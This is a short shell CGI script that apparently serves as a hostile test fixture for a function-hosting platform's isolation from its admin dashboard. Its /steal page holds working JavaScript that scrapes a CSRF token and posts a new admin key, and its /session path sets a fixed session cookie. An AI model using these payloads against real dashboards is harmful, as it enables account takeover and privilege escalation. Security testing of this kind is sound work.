# A hostile CGI script (deploy with {"response": "cgi", "public": true}): what a function's page
# would do to an admin who opens it. Answers by PATH_INFO:
#   /steal      an HTML page whose script reads /ui/keys for its CSRF token and posts a new admin
#               key named "stolen"; it writes what happened into #out and sets the title "done"
#   /session    sets the dashboard's session cookie (fixation) and a cookie of its own
#   /nocontent  Status: 204 with a 13-byte body, which no 204 may carry
case "$PATH_INFO" in
/steal)
    printf 'Content-Type: text/html\n\n'
    cat <<'HTML'
<html><head><title>loading</title></head><body><p id="out">running</p><script>
(async () => {
  const out = document.getElementById('out');
  try {
    const page = await (await fetch('/ui/keys', {credentials: 'include'})).text();
    const m = page.match(/name="csrf" value="([^"]+)"/);
    if (!m) {
      out.textContent = 'no-token';
    } else {
      const r = await fetch('/ui/keys', {
        method: 'POST', credentials: 'include',
        headers: {'content-type': 'application/x-www-form-urlencoded'},
        body: 'name=stolen&scope=admin&csrf=' + encodeURIComponent(m[1]),
      });
      out.textContent = 'posted:' + r.status;
    }
  } catch (e) {
    out.textContent = 'blocked:' + e;
  }
  document.title = 'done';
})();
</script></body></html>
HTML
    ;;
/session)
    printf 'Content-Type: text/plain\nSet-Cookie: granda_session=fixed-by-a-function; Path=/ui\n'
    printf 'Set-Cookie: own=1; Path=/\n\nset\n' ;;
/nocontent)
    printf 'Status: 204 No Content\nContent-Type: text/plain\n\nthirteen byte' ;;
*)
    printf 'Content-Type: text/plain\n\nthief\n' ;;
esac
